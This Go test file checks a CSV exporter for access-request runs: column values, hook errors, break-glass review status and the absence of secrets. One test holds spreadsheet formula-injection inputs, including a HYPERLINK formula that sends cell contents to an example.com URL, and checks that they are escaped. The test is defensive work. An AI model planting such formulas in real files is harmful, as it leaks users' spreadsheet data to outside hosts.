package export_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/fasttrack-dev/fasttrack/api"
	"github.com/fasttrack-dev/fasttrack/internal/export"
	"github.com/fasttrack-dev/fasttrack/internal/run"
)

// cells writes a run and reads it as a spreadsheet does, by column.
func cells(t *testing.T, r *run.Run) map[string]string {
	t.Helper()
	row, err := export.Of(r, nil).Row()
	if err != nil {
		t.Fatal(err)
	}
	file := string(export.Header()) + string(row)
	if strings.Count(file, "\n") != strings.Count(file, "\r\n") {
		t.Errorf("there is another line end than CRLF in %q", file)
	}
	lines, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil || len(lines) != 2 {
		t.Fatalf("%d lines, %v: %s", len(lines), err, file)
	}
	out := map[string]string{}
	for i, name := range lines[0] {
		if lines[1][i] != "" {
			out[name] = lines[1][i]
		}
	}
	return out
}

func TestRow(t *testing.T) {
	r := aRun(t)
	got := cells(t, r)
	want := map[string]string{
		"id": r.ID, "flow": "f", "status": "requested", "requester_id": "ada@example.com", "requester_email": "ada@example.com",
		"reason": "prod is <down>", "fields": `{"target":{"id":"prod","label":"Production"}}`, "created_at": "2026-11-23T10:00:00Z",
		"checks": "[]", "duration_seconds": "3600", "flow_version": "0a1b2c3d4e5f", "head": r.History[0].Hash, "entries": "1",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}

	r.Status = run.Ended
	r.Decision = &run.Decision{
		Event: run.Approve, By: run.Actor{Type: run.HookActor, ID: "on_request"}, Reason: `he said "yes", twice`, At: start.Add(1500 * time.Millisecond),
		Checks: []run.Check{{Name: "on call", Passed: true, Detail: "until 18:00"}},
	}
	r.Access = &run.Access{StartsAt: start.Add(time.Minute), EndsAt: start.Add(time.Hour), GoneAt: start.Add(2 * time.Hour), SessionsUntil: start.Add(3 * time.Hour)}
	r.History = append(r.History,
		run.Entry{Event: run.Approve, Status: run.Approved, HooksVersion: "7", Hash: "h2"},
		run.Entry{Event: run.Escalate, Status: run.Active, HooksVersion: "8", Hash: "h3"})
	for name, value := range map[string]string{
		"status": "ended", "decision": "approve", "decided_by_type": "hook", "decided_by_id": "on_request",
		"decision_reason": `he said "yes", twice`, "decided_at": "2026-11-23T10:00:01.5Z", "checks": `[{"name":"on call","passed":true,"detail":"until 18:00"}]`,
		"access_starts_at": "2026-11-23T10:01:00Z", "access_ends_at": "2026-11-23T11:00:00Z", "access_gone_at": "2026-11-23T12:00:00Z", "access_sessions_until": "2026-11-23T13:00:00Z",
		"hooks_version": "7", "head": "h3", "entries": "3",
	} {
		want[name] = value
	}
	if diff := cmp.Diff(want, cells(t, r)); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}

	r.BreakGlass, r.Decision.By = &run.BreakGlass{ReviewWithinSeconds: 60}, run.BreakGlassActor
	if got := cells(t, r)["break_glass"]; got != "unreviewed" {
		t.Errorf("an emergency that nobody has reviewed is %q", got)
	}
	r.History = append(r.History, run.Entry{Event: run.Reviews, Status: run.Ended, Verdict: api.Unjustified, Hash: "h4"})
	r.BreakGlass.Reviewed = len(r.History)
	if got := cells(t, r)["break_glass"]; got != "unjustified" {
		t.Errorf("a reviewed emergency is %q", got)
	}
	r.Extends = &run.Extends{ID: "6PZZ5RPQ2D18H9FRF73P0KE6VC", Number: 1}
	if got := cells(t, r)["extends"]; got != "6PZZ5RPQ2D18H9FRF73P0KE6VC" {
		t.Errorf("it extends %q", got)
	}
}

// What hooks had to do with it, where people decided.
func TestRow_Hooks(t *testing.T) {
	r := aRun(t)
	r.Review = &run.Review{
		Errors: []run.HookError{{Hook: string(run.GetPermissions), Error: "get_permissions failed: down"}},
		Checks: []run.Check{{Name: "low risk"}},
	}
	r.Shadow = &run.Verdict{Error: "on_request failed: down"}
	r.History = append(r.History,
		run.Entry{Event: run.Forward, Status: run.Pending, HooksVersion: "7", Error: "get_permissions: get_permissions failed: down; get_notifications: get_notifications failed: a; b"},
		run.Entry{Event: run.Expire, Status: run.Expired, Error: "on_expire did not respond"},
		run.Entry{Event: run.Ignore, Status: run.Expired, Error: "it was not done in time"})
	got := cells(t, r)
	for name, want := range map[string]string{
		"failed_hooks": "get_notifications get_permissions on_expire on_request", "hooks_version": "7", "shadow": "failed", "checks": `[{"name":"low risk","passed":false}]`,
	} {
		if got[name] != want {
			t.Errorf("%s is %q, want %q", name, got[name], want)
		}
	}
	for event, want := range map[run.EventName]string{run.Approve: "approve", run.Deny: "deny", "": "people"} {
		r.Shadow = &run.Verdict{Event: event}
		if got := cells(t, r)["shadow"]; got != want {
			t.Errorf("shadow is %q, want %q", got, want)
		}
	}
}

// A spreadsheet takes nothing that somebody wrote for a formula.
func TestRow_Harmless(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("https://example.com/?"&A1,"x")`: `'=HYPERLINK("https://example.com/?"&A1,"x")`,
		"+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": `\u000d=1`, "＝1": "'＝1", "＠A": "'＠A", "\u202e=1": `\u202e=1`,
		"a=b": "a=b", "'=1": "'=1", "one\r\ntwo": "one\ntwo", // as this reader reads them
	} {
		r := aRun(t)
		r.Reason = text
		if got := cells(t, r)["reason"]; got != want {
			t.Errorf("%q is written %q, want %q", text, got, want)
		}
	}
}

// No sensitive value, salt or task token is in either form.
func TestForms_KeepSecrets(t *testing.T) {
	out := export.Of(aRun(t), nil)
	line, err := out.Line()
	if err != nil {
		t.Fatal(err)
	}
	row, err := out.Row()
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []string{"0815-secret", "the-salt", "the-token"} {
		if strings.Contains(string(line), secret) || strings.Contains(string(row), secret) {
			t.Errorf("%s is in %s or %s", secret, line, row)
		}
	}
}
